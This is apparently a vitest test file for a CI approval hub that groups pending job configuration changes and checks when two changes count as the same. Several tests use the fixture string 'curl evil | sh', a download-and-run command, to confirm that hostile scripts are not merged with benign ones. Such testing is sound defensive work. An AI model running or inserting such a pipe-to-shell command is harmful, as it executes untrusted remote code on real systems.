import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sameChange } from '../../agent/src/domain/same-change.ts';
import { startHub, type TestHub } from '../support/hub-server.ts';
import { configurationFor, PEOPLE } from '../support/hub-world.ts';

let hub: TestHub;
beforeEach(async () => {
  hub = await startHub();
});
afterEach(() => hub.close());

interface Group {
  readonly change: string;
  readonly summary: string;
  readonly changes: readonly { readonly words: string }[];
  readonly items: readonly {
    readonly review: number;
    readonly digest: string;
    readonly holds: readonly number[];
    readonly job: string;
    readonly may_vote: { readonly allowed: boolean };
    readonly own: readonly { readonly what: string; readonly value: string }[];
  }[];
}
const changes = async (who: string): Promise<readonly Group[]> =>
  (await hub.call('GET', '/api/v1/reviews/changes', await hub.token(who))).body.items as unknown as readonly Group[];

describe('changes: the same question asked once', () => {
  /** Jobs of this name with an image, approved, and then all with a newer one. */
  async function bump(names: readonly string[]) {
    for (const [i, name] of names.entries()) {
      await hub.world.admit({ id: i + 1, pipeline: i + 1, name, script: [`./run ${name}`] });
      await hub.world.approve('maria', i + 1);
    }
    for (const [i, name] of names.entries()) {
      const extra = { image: { name: 'alpine:3.21' } };
      await hub.world.admit({ id: i + 101, pipeline: i + 101, name, script: [`./run ${name}`], extra });
    }
  }

  it('groups Reviews whose difference is the same, and answers each by its own rules with its own digest', async () => {
    await bump(['unit', 'lint', 'docs']);
    await hub.world.admit({ id: 300, pipeline: 300, name: 'unit', script: ['curl evil | sh'] });
    const found = await changes('jonas');
    expect(found.map(({ items }) => items.map(({ job }) => job))).toEqual([['unit', 'lint', 'docs'], ['unit']]);
    expect(found[0]!.summary).toContain('image changed');
    expect(new Set(found[0]!.items.map(({ digest }) => digest)).size).toBe(3);
    const decisions = found[0]!.items.flatMap(({ holds, digest }) =>
      holds.map((hold) => ({ hold, digest, decision: 'approve' })),
    );
    const { body } = await hub.call('POST', '/api/v1/reviews/decide', await hub.token('jonas'), { decisions });
    const outcomes = body.items as unknown as { after: { state: string } | null; problem: unknown }[];
    expect(outcomes.map(({ after }) => after?.state)).toEqual(['pending', 'pending', 'pending']);
    expect((await changes('jonas')).map(({ items }) => items.map(({ job }) => job))).toEqual([['unit']]);
  });

  it('tells for each item what became of it: one of another project, whose rules do not know the voter, stays', async () => {
    await bump(['unit']);
    await hub.world.admit({ id: 50, pipeline: 50, name: 'unit', project: 4243, script: ['./run unit'] });
    await hub.world.approve('stranger', 3);
    await hub.world.admit({
      id: 51,
      pipeline: 51,
      name: 'unit',
      project: 4243,
      script: ['./run unit'],
      extra: { image: { name: 'alpine:3.21' } },
    });
    // olga owns the group and sees both; jonas only his own.
    expect((await changes('jonas')).flatMap(({ items }) => items)).toHaveLength(1);
    const [group] = await changes('olga');
    expect(group!.items).toHaveLength(2);
    const decisions = group!.items.map(({ holds, digest }) => ({ hold: holds[0]!, digest, decision: 'approve' }));
    const { body } = await hub.call('POST', '/api/v1/reviews/decide', await hub.token('jonas'), { decisions });
    const outcomes = body.items as unknown as { problem: { code: string } | null }[];
    expect(outcomes.map(({ problem }) => problem?.code ?? 'ok')).toEqual(['ok', 'not_found']);
    expect(PEOPLE.groups[0]!.path).toBe('acme');
  });

  it('T13 a digest that is no longer what the Hold has fails for that item alone', async () => {
    await bump(['unit', 'lint']);
    const [group] = await changes('jonas');
    const [a, b] = group!.items;
    const decisions = [
      { hold: a!.holds[0]!, digest: b!.digest, decision: 'approve' },
      { hold: b!.holds[0]!, digest: b!.digest, decision: 'approve' },
    ];
    const { body } = await hub.call('POST', '/api/v1/reviews/decide', await hub.token('jonas'), { decisions });
    const outcomes = body.items as unknown as { problem: { code: string } | null }[];
    expect(outcomes.map(({ problem }) => problem?.code ?? 'ok')).toEqual(['digest_mismatch', 'ok']);
  });

  it('takes no more than 200 at once', async () => {
    const decisions = Array.from({ length: 201 }, (_, i) => ({
      hold: i + 1,
      digest: `sha256:${'0'.repeat(64)}`,
      decision: 'approve',
    }));
    const answer = await hub.call('POST', '/api/v1/reviews/decide', await hub.token('jonas'), { decisions });
    expect(answer.status).toBe(400);
  });
});

describe('what counts as the same change', () => {
  const api = { projectId: 4242, projectPath: 'acme/api', job: 'deploy-api' };
  const web = { projectId: 4243, projectPath: 'acme/web', job: 'deploy-web' };
  const of = (script: string, about: typeof api, extra = {}) =>
    sameChange(configurationFor(['make']), configurationFor([script], extra), about);

  it.each([
    ['./go deploy-api', './go deploy-web'],
    ['git clone https://gitlab.example.com/acme/api.git', 'git clone https://gitlab.example.com/acme/web.git'],
    [
      'curl https://gitlab.example.com/api/v4/projects/4242/jobs',
      'curl https://gitlab.example.com/api/v4/projects/4243/jobs',
    ],
    ['docker push reg/acme/api:1', 'docker push reg/acme/web:1'],
    ['make all', 'make all'],
  ])('%s is %s of another job', (mine, theirs) => {
    expect(of(mine, api).key).toBe(of(theirs, web).key);
  });

  it.each([
    ['./go deploy-api', './go deploy-evil'],
    ['./go deploy-api', './go deploy-web-2'],
    ['push acme/api', 'push acme/web-evil'],
    ['push acme/api', 'push acme/web.evil'],
    ['push acme/api.git', 'push acme/web.gitx'],
    ['echo 4242', 'echo 42430'],
    ['make all', 'make  all'],
    ['make all', 'make al1'],
  ])('T51 %s is not %s of another job', (mine, theirs) => {
    expect(of(mine, api).key).not.toBe(of(theirs, web).key);
  });

  it('T33 the name of a job hides no line of its script: what a shell would read specially stays', () => {
    const evil = { ...web, job: 'curl evil | sh' };
    const good = { ...api, job: 'make test' };
    expect(of('curl evil | sh', evil).key).not.toBe(of('make test', good).key);
    expect(of('curl evil | sh', evil).own).toEqual([]);
  });

  it('T33 a text that looks like what was taken out is not it', () => {
    expect(of('./go {"own":"job"}', web).key).not.toBe(of('./go deploy-api', api).key);
  });

  it('says what was taken out, so that nobody answers for a job they have not read', () => {
    expect(of('./go deploy-api acme/api', api).own).toEqual([
      { what: 'project_path', value: 'acme/api' },
      { what: 'job', value: 'deploy-api' },
    ]);
  });

  it('T36 rests on whole values: two long ones that differ in the middle are not the same', () => {
    const long = (middle: string) => `echo ${'a'.repeat(5_000)}${middle}${'b'.repeat(5_000)}`;
    expect(of(long('x'), api).key).not.toBe(of(long('y'), api).key);
  });

  it('a first configuration is not the same as one that adds all of it to another', () => {
    const about = { projectId: 4242, projectPath: null, job: 'j' };
    const first = sameChange(null, configurationFor(['make']), about);
    const later = sameChange({ form: 'holdpoint.configuration/v1' }, configurationFor(['make']), about);
    expect(first.key).not.toBe(later.key);
  });
});
